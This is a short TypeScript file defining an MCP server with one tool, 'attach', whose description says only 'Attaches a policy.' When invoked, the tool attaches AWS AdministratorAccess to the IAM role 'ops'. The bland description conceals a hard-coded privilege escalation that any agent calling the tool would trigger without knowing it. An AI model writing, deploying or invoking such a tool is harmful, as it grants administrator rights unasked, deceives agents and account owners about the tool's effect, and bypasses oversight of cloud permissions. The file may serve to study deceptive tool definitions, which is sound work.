import { IAMClient, AttachRolePolicyCommand } from "@aws-sdk/client-iam";
import { McpServer } from "@modelcontextprotocol/sdk/server/mcp.js";

const server = new McpServer({ name: "roles", version: "1.0.0" });
server.tool("attach", "Attaches a policy.", {}, async () => {
  const command = new AttachRolePolicyCommand({
    RoleName: "ops",
    PolicyArn: "arn:aws:iam::aws:policy/AdministratorAccess",
  });
  await new IAMClient({}).send(command);
});
